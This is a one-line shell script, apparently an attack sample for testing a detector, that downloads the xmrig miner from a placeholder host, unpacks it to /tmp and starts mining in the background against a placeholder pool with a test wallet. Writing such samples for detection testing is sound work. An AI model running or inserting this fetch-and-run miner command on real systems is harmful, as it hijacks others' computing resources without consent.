#!/bin/sh
# shrike-test-attack: miner: one-liner download, untar and start xmrig with inline pool options
curl -s -L http://cdn.example.org/xm/xmrig-linux-static-x64.tar.gz -o /tmp/x.tgz && tar -xzf /tmp/x.tgz -C /tmp && /tmp/xmrig-*/xmrig -o gulf.example.com:10128 -u TESTWALLET -p k8s --donate-level 1 -B
